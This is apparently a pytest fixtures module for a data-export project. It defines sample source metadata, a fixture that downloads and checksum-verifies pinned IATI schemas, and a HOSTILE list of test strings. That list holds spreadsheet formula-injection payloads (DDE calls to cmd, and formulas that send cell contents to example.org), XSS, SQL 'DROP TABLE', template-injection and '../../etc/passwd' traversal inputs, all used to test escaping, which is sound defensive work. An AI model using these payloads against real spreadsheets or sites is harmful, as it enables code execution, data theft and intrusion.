"""What tests of files share: contents, hostile texts, and the published schemas of IATI."""

from __future__ import annotations

import hashlib
import importlib.util
import os
import subprocess
import sys
import tarfile
from typing import TYPE_CHECKING

import pytest

from unmap.files import shipped_data
from unmap.formats import About, Content
from unmap.model.registry import registry
from unmap.store.loading import read_levels

if TYPE_CHECKING:
    from pathlib import Path

    import pandas as pd


IATI = ("pyIATI", "0.4.1", "b6f8f0d596746bd774ed3e84cdad50dfa7dd501ac70e6399f2bb0244bfd5b0ef")
"""The package in which the IATI secretariat published schemas and codelists: its pins keep it from being installed."""

SOURCE = {
    "source_id": "census",
    "title": "Census",
    "publisher": "Statistics Office",
    "year": "2021",
    "terms": "free; name it",
    "url": "https://example.org",
}
REPORT = {**SOURCE, "source_id": "report", "title": "Report", "terms": "free"}
REGISTRY = registry(read_levels(shipped_data()))
"""Columns of the shipped data."""

ABOUT = About((SOURCE, REPORT), "2020/2021", "0123456789ab")

HOSTILE = (
    *(f"{start}1+1" for start in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"),
    *(f"{before}=1+1" for before in (" ", "  ", ";", "; ", ",", "|", '"', '""', "'", "''", "\u00a0", "\u2003", ' ;"')),
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '=WEBSERVICE("http://example.org")',
    "=1+1;=2+2",
    "+52 55 0000 0000",
    "-",
    "--1",
    "-0",
    "=",
    "@",
    "1e5",
    "007",
    "TRUE",
    "null",
    "NaN",
    "#N/A",
    "#adm1+code",
    "1/2",
    "2020-01-01",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "a,b",
    'say "no"',
    "two\nlines",
    "two\r\nlines",
    "a;b",
    "N'Djamena",
    "Côte d'Ivoire",
    "ñandú 🌵 漢字",
    "e\u0301",
    "\u202ereversed",
    "\ufeffmark",
    "'; DROP TABLE states; --",
    "${7*7} {{7*7}}",
    "../../etc/passwd",
    "_x0041_",
    "x" * 5_000,
)
"""Texts that are nothing but text, and that one program or another would like to take for more."""


def content(table: pd.DataFrame, name: str = "things", **more: object) -> Content:
    """A table of things from two sources."""
    return Content(name, f"The {name}", table, ABOUT, REGISTRY, **more)  # type: ignore[arg-type]


@pytest.fixture(scope="session")
def iati_standard(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of IATI 2.03 as its secretariat published it; without a package registry the test is skipped."""
    name, version, checksum = IATI
    folder = tmp_path_factory.mktemp("iati")
    # With what builds the package at hand, pip need not fetch it: ten seconds less.
    at_hand = ["--no-build-isolation"] if importlib.util.find_spec("setuptools") else []
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "download",
            "-q",
            "--no-deps",
            "--no-binary",
            ":all:",
            *at_hand,
            f"{name}=={version}",
        ],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
        timeout=1800,
    )
    if done.returncode != 0:
        if os.environ.get("CI"):
            pytest.fail(f"the schemas of IATI cannot be had from the package registry: {done.stderr}")
        pytest.skip("the schemas of IATI cannot be had: no package registry can be reached")
    archive = folder / f"{name}-{version}.tar.gz"
    assert hashlib.sha256(archive.read_bytes()).hexdigest() == checksum
    with tarfile.open(archive) as packed:
        packed.extractall(folder, filter="data")
    return folder / f"{name}-{version}" / "iati" / "resources" / "standard" / "2-03"
